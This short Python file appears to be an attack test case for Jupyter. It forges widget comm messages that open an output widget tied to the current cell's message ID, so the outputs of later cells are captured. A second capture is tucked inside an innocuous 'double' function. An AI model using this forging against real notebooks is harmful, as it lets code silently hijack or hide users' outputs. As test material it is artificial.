"""Lets a widget catch the outputs of all cells."""

# /// attack
# uses = ["forge"]
# ///

# %% before
def capture(name, parent_id):
    state = {"_model_module": "@jupyter-widgets/output", "_model_name": "OutputModel",
             "msg_id": parent_id, "outputs": []}
    data = {"state": state, "buffer_paths": []}
    forge("comm_open", {"comm_id": name, "target_name": "jupyter.widget", "data": data})
    forge("comm_msg", {"comm_id": name, "data": {"method": "update", "state": state}})
capture("one", kernel.get_parent()["header"]["msg_id"])
print("d" + "one")
def double(x):
    capture("two", kernel.get_parent()["header"]["msg_id"])
    return 0 * x

# %% double
double(1)
